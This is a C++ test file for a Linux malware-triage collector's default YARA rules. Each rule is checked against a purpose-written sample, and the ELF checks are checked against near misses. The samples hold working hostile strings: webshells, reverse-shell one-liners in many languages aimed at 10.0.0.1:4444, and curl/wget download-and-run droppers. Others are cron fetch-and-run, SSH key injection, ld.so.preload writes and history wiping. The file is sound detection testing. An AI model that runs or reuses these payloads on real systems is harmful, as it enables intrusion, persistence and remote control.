// The embedded default rule set: every rule fires on a sample of what it is meant to catch
// (samples written for these tests), the ELF structure checks hold for every class and byte
// order and stay quiet on near misses, and no rule fires on this machine's own programs.
#include <gtest/gtest.h>

#include <fstream>
#include <iterator>
#include <regex>
#include <set>

#include "elf_samples.hpp"
#include "triage_fixtures.hpp"

namespace {

using namespace triage_test;
using collector::CompiledRules;
using namespace std::literals;

// A 64-bit little-endian ELF with one PT_LOAD, no section table, `tail` as its payload.
std::string fake_elf(std::string_view tail, uint16_t type = 2, std::size_t min_size = 0) {
  return make_elf(
      {.type = type, .section_table = false, .payload = std::string(tail), .min_size = min_size});
}

// The same ELF in the three other class/byte-order layouts, for rules that read the header.
std::vector<ElfSpec> other_layouts(ElfSpec spec) {
  std::vector<ElfSpec> out;
  for (auto [bits, big_endian] : {std::pair{32, false}, {64, true}, {32, true}}) {
    spec.bits = bits;
    spec.big_endian = big_endian;
    out.push_back(spec);
  }
  return out;
}

// A small preloadable library hooking readdir and chaining to libc through dlsym.
ElfSpec readdir_hook_library() {
  return {.type = 3,
          .sections = {".text", ".data"},
          .dynamic_symbols = {{"readdir", true},
                              {"readdir64", true},
                              {"dlsym", false},
                              {"opendir", false}},
          .payload = "/proc/"s};
}

// A static, stripped binary: PT_LOAD only, sections without .symtab, five attack strings.
ElfSpec static_stripped_bot() {
  return {.type = 2,
          .sections = {".text", ".rodata"},
          .payload = "/etc/rc.local\0chattr -i\0iptables -F\0HISTFILE\0/proc/self/exe"s};
}

struct Sample {
  const char* rule;
  std::string data;
};

std::vector<Sample> samples() {
  const std::string wallet = "48" + std::string(93, 'A');
  const std::string key = "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7q9b2Xk1Lr5mZpW0yQ3vT8aNfE4cHsJdG";
  return {
      {"php_eval_of_request_input", "<?php @eval($_POST['cmd']); ?>"},
      {"php_command_from_request_input", "<?php system($_GET['c']); ?>"},
      {"php_obfuscated_eval_chain", "<?php eval(gzinflate(base64_decode('S0tNTgYA'))); ?>"},
      {"php_request_callable", "<?php $_GET['f']($_POST['a']); ?>"},
      {"php_known_webshell_kits", "<?php $default_action = 'FilesMan'; ?>"},
      {"php_upload_then_execute",
       "<?php move_uploaded_file($_FILES['f']['tmp_name'], $t); echo shell_exec($_POST['c']);"},
      {"jsp_runtime_exec_request",
       "<% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>"},
      {"jsp_processbuilder_request",
       "<% new ProcessBuilder(\"/bin/sh\", \"-c\", request.getParameter(\"c\")).start(); %>"},
      {"jsp_class_loader_shell",
       "<% byte[] b = new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine());"
       " Class c = new L().defineClass(b); %>"},
      {"aspx_process_from_request",
       "<%@ Page Language=\"C#\" %><% Process.Start(\"sh\", Request.Form[\"c\"]); %>"},
      {"php_fsockopen_shell_relay",
       "<?php $s=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>"},
      {"bash_dev_tcp_reverse_shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
      {"netcat_exec_shell", "nc -e /bin/sh 10.0.0.1 4444"},
      {"netcat_exec_shell", "nc.traditional 10.0.0.1 4444 -e /bin/bash"},
      {"fifo_netcat_shell",
       "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"},
      {"python_reverse_shell",
       "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
       "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
       "import pty; pty.spawn(\"/bin/bash\")"},
      {"python_pty_shell_upgrade", "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"},
      {"perl_socket_reverse_shell",
       "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
       "if(connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")))){open(STDIN,\">&S\");"
       "open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};'"},
      {"socat_exec_shell", "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr"},
      {"ruby_reverse_shell",
       "ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;"
       "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'"},
      {"awk_inet_reverse_shell",
       "awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) { printf \"> \" |& s; "
       "s |& getline c; } }'"},
      {"telnet_pipe_shell", "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445"},
      {"node_reverse_shell",
       "var cp = require('child_process'), net = require('net'); var sh = cp.spawn('/bin/sh', "
       "[]); var c = new net.Socket(); c.connect(4444, '10.0.0.1', function() { "
       "c.pipe(sh.stdin); sh.stdout.pipe(c); });"},
      {"php_cli_reverse_shell",
       "php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"},
      {"lua_reverse_shell",
       "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4444');"
       "os.execute('/bin/sh -i <&3 >&3 2>&3');\""},
      {"miner_stratum_url", "url = stratum+tcp://pool.example.net:3333"},
      {"miner_xmrig_config",
       "{\"pools\": [{\"url\": \"pool.example.net:443\"}], \"donate-level\": 1, "
       "\"randomx\": {\"init\": -1}, \"cpu\": {\"enabled\": true}}"},
      {"miner_xmrig_binary", fake_elf("XMRig 6.18 --donate-level RandomX")},
      {"miner_command_line", "./x -o pool.example.net:3333 -u WALLET --donate-level=1"},
      {"miner_known_pool_hosts", "pool: pool.supportxmr.com:443"},
      {"miner_cpuminer", "cpuminer-multi 1.3.7"},
      {"miner_competitor_killer",
       "pkill -f kdevtmpfsi\npkill -f xmrig\nkillall minerd\nkill -9 $(pgrep cryptonight)\n"},
      {"miner_kinsing_teamtnt_traits", "curl -s http://198.51.100.7/kinsing -o /tmp/kinsing"},
      {"miner_monero_wallet_in_config", "{\"user\": \"" + wallet + "\"}"},
      {"ld_so_preload_writer", "echo /usr/local/lib/libx.so > /etc/ld.so.preload"},
      {"ld_preload_process_hider",
       fake_elf("process_to_filter\0get_dir_name\0get_process_name\0/proc/%s/stat"sv, 3)},
      {"userland_rootkit_names", fake_elf("azazel.conf\0readdir"sv, 3)},
      {"lkm_diamorphine", fake_elf("vermagic=5.10.0 SMP\0diamorphine"sv, 1)},
      {"lkm_syscall_table_hook", fake_elf("vermagic=5.10\0sys_call_table\0kallsyms_lookup_name"sv
                                          "\0hook_getdents64"sv,
                                          1)},
      {"lkm_process_hiding", fake_elf("vermagic=5.10\0hide_pid\0unhide_pid"sv, 1)},
      {"lkm_reptile", "/reptile/reptile_cmd show"},
      {"pam_credential_logger",
       fake_elf("pam_sm_authenticate\0pam_get_item\0/tmp/.pw\0%s:%s"sv, 3)},
      {"process_hidden_by_bind_mount", "mount --bind /tmp/empty /proc/1234"},
      {"elf_upx_packed", fake_elf("UPX!")},
      {"elf_without_section_table", fake_elf("", 2, 8192)},
      {"elf_fake_kernel_thread_name", fake_elf("[kworker/0:1]")},
      {"elf_hidden_tmp_directory", fake_elf("/tmp/.cache-x/agent\0/bin/sh"sv)},
      {"elf_static_stripped_with_attack_strings",
       fake_elf("/etc/rc.local\0chattr -i\0iptables -F\0HISTFILE\0/proc/self/exe"sv)},
      {"elf_iot_ddos_bot", fake_elf("TSource Engine Query\0/dev/watchdog"sv)},
      {"elf_irc_flood_bot", fake_elf("PRIVMSG %s :\0UDPFLOOD\0SYNFLOOD"sv)},
      {"elf_self_deleting_daemon", fake_elf("/proc/self/exe\0unset HISTFILE\0rm -rf /tmp/.x"sv)},
      {"dropper_download_chmod_run",
       "wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"},
      {"download_piped_to_shell", "curl -fsSL http://198.51.100.7:8080/i.sh | bash"},
      {"ssh_key_appended_by_script",
       "echo 'ssh-rsa " + key + " a@b' >> /root/.ssh/authorized_keys"},
      {"cron_fetch_and_run", "*/5 * * * * root curl -fsSL http://example.com/a.sh | sh\n"},
      {"systemd_unit_runs_from_tmp", "[Unit]\nDescription=x\n[Service]\nExecStart=/tmp/.x/agent\n"},
      {"shell_history_wiping", "unset HISTFILE\nhistory -c\nrm -f ~/.bash_history\n"},
      {"tool_mimipenguin", "# mimipenguin.sh: dump login passwords"},
      {"tool_lazagne", "from lazagne.config.constant import constant"},
      {"tool_linpeas", "# linpeas.sh from PEASS-ng"},
      {"tool_linenum", "# LinEnum v0.982 https://www.rebootuser.com"},
      {"tool_linux_exploit_suggester",
       "Linux Exploit Suggester: https://www.exploit-db.com/exploits/40839"},
      {"tool_pspy", "github.com/dominicbreuker/pspy/internal/pspy"},
      {"tool_chisel_tunnel", "github.com/jpillora/chisel/share/tunnel"},
      {"tool_ligolo_tunnel", "github.com/nicocha30/ligolo-ng/pkg/agent"},
      {"tool_frp_proxy", "github.com/fatedier/frp/client/proxy"},
      {"tool_gsocket", "gs-netcat -s secret; export GSOCKET_ARGS"},
      {"tool_sliver_implant", "github.com/bishopfox/sliver/protobuf/sliverpb"},
      {"tool_meterpreter_mettle", fake_elf("mettle -U\0core_channel_open"sv)},
      {"tool_pwnkit_exploit", std::string("GCONV_PATH=.\0pkexec\0CHARSET=PWNKIT"sv)},
      {"tool_container_escape_kits", "github.com/cdk-team/CDK/pkg/exploit"},
      {"tool_dirty_pipe_exploit", "dirtypipe: splice() into /etc/passwd"},
  };
}

// Samples for the rules that read ELF structures, in every class and byte order.
std::vector<Sample> elf_layout_samples() {
  std::vector<Sample> out;
  auto add_all = [&](const char* rule, ElfSpec spec) {
    out.push_back({rule, make_elf(spec)});
    for (const ElfSpec& other : other_layouts(spec)) out.push_back({rule, make_elf(other)});
  };
  add_all("ld_preload_hiding_library", readdir_hook_library());
  add_all("elf_static_stripped_with_attack_strings", static_stripped_bot());
  add_all("elf_without_section_table", {.type = 3, .section_table = false, .min_size = 8192});
  add_all("userland_rootkit_names", {.type = 3, .payload = "azazel.conf\0readdir"s});
  return out;
}

std::set<std::string> fired_rules(collector::BufferScanner& scanner, const std::string& data) {
  auto rows =
      scanner.scan("/sample", {reinterpret_cast<const uint8_t*>(data.data()), data.size()}, "");
  std::set<std::string> fired;
  for (const auto& row : rows) fired.insert(row.rule);
  return fired;
}

std::set<std::string> rule_files_text_matches(const std::regex& pattern, int group) {
  std::set<std::string> found;
  for (const auto& entry : fs::directory_iterator(fs::path(PPC_SOURCE_DIR) / "rules/yara")) {
    std::ifstream in(entry.path());
    std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
    for (std::sregex_iterator it(text.begin(), text.end(), pattern), end; it != end; ++it)
      found.insert((*it)[group].str());
  }
  return found;
}

std::set<std::string> rules_in_default_set() {
  return rule_files_text_matches(std::regex(R"re(\nrule\s+(\w+)\s*\{)re"), 1);
}

TEST(DefaultRules, EveryRuleFiresOnItsSample) {
  CompiledRules rules = CompiledRules::compile({});
  collector::BufferScanner scanner(rules);
  std::set<std::string> covered;
  std::vector<Sample> all = samples();
  for (Sample& s : elf_layout_samples()) all.push_back(std::move(s));
  for (const Sample& sample : all) {
    SCOPED_TRACE(sample.rule);
    std::set<std::string> fired = fired_rules(scanner, sample.data);
    EXPECT_TRUE(fired.count(sample.rule)) << "fired: " << ::testing::PrintToString(fired);
    covered.insert(sample.rule);
  }
  EXPECT_EQ(covered, rules_in_default_set()) << "every default rule needs a sample here";
}

// Each sample differs from a positive one above in the single fact the rule checks.
TEST(DefaultRules, ElfStructureChecksStayQuietOnNearMisses) {
  auto hook = readdir_hook_library();
  auto with = [](ElfSpec spec, auto change) {
    change(spec);
    return spec;
  };
  std::vector<std::pair<const char*, ElfSpec>> near_misses = {
      {"ld_preload_hiding_library", with(hook, [](ElfSpec& s) { s.type = 2; })},
      {"ld_preload_hiding_library",
       with(hook,
            [](ElfSpec& s) {
              s.dynamic_symbols = {{"readdir", false}, {"dlsym", false}};
            })},
      {"ld_preload_hiding_library", with(hook,
                                         [](ElfSpec& s) {
                                           s.dynamic_symbols = {{"readdir", true}, {"dlsym", true}};
                                         })},
      {"ld_preload_hiding_library",
       with(hook,
            [](ElfSpec& s) {
              s.dynamic_symbols = {{"readdirx", true}, {"dlsym", false}};
            })},
      {"ld_preload_hiding_library",
       with(hook,
            [](ElfSpec& s) {
              for (int i = 0; i < 400; ++i)
                s.dynamic_symbols.push_back({"f" + std::to_string(i), true});
            })},
      {"elf_static_stripped_with_attack_strings", with(static_stripped_bot(),
                                                       [](ElfSpec& s) {
                                                         s.segments = {1, 3};
                                                       })},  // PT_INTERP
      {"elf_static_stripped_with_attack_strings", with(static_stripped_bot(),
                                                       [](ElfSpec& s) {
                                                         s.segments = {2, 1};
                                                       })},  // PT_DYNAMIC
      {"elf_static_stripped_with_attack_strings",
       with(static_stripped_bot(), [](ElfSpec& s) { s.sections.push_back(".symtab"); })},
      {"elf_without_section_table", {.type = 3, .min_size = 8192}},
      {"elf_without_section_table", {.type = 1, .section_table = false, .min_size = 8192}},
      {"elf_without_section_table", {.type = 3, .section_table = false, .min_size = 4096}},
      {"userland_rootkit_names", {.type = 2, .payload = "azazel.conf\0readdir"s}},
  };
  CompiledRules rules = CompiledRules::compile({});
  collector::BufferScanner scanner(rules);
  for (const auto& [rule, spec] : near_misses) {
    std::vector<ElfSpec> layouts = other_layouts(spec);
    layouts.push_back(spec);
    for (const ElfSpec& layout : layouts) {
      SCOPED_TRACE(std::string(rule) + " " + std::to_string(layout.bits) +
                   (layout.big_endian ? "-bit BE" : "-bit LE"));
      EXPECT_FALSE(fired_rules(scanner, make_elf(layout)).count(rule));
    }
  }
}

// The elf module parses every symbol of every ELF scanned whatever the conditions need, which
// alone doubled the scan time of the whole set: rules read headers at fixed offsets instead.
TEST(DefaultRules, ImportNoModules) {
  EXPECT_EQ(rule_files_text_matches(std::regex(R"re((?:^|\n)\s*import\s+"(\w+)")re"), 1),
            std::set<std::string>{});
}

// The collector embeds these rule files, so any executable carrying them (the collector and each
// copy of it) is a data blob of rule text inside a static, stripped ELF. No rule may fire on it:
// a literal is spelt with one \xNN escape, a name that also names a rule or a string is matched
// as a word (\b), and descriptions and comments do not spell out what the rules look for.
TEST(DefaultRules, QuietOnTheirOwnTextInsideAnExecutable) {
  std::string all_text;
  for (const auto& entry : fs::directory_iterator(fs::path(PPC_SOURCE_DIR) / "rules/yara")) {
    if (entry.path().extension() != ".yar") continue;  // what the collector embeds
    std::ifstream in(entry.path());
    all_text.append(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  }
  ElfSpec carrier = static_stripped_bot();
  carrier.payload = all_text;
  CompiledRules rules = CompiledRules::compile({});
  collector::BufferScanner scanner(rules);
  EXPECT_EQ(fired_rules(scanner, all_text), std::set<std::string>{}) << "as a text file";
  EXPECT_EQ(fired_rules(scanner, make_elf(carrier)), std::set<std::string>{}) << "inside an ELF";
}

TEST(DefaultRules, QuietOnThisMachinesProgramsAndConfiguration) {
  CompiledRules rules = CompiledRules::compile({});
  collector::ScanOptions options;
  options.scan = {"/usr/bin", "/usr/sbin", "/etc"};
  ScanResult result = scan(rules, options);
  EXPECT_GT(result.summary.files_scanned, 100u);
  EXPECT_EQ(result.matches(), MatchSet{});
}

}  // namespace
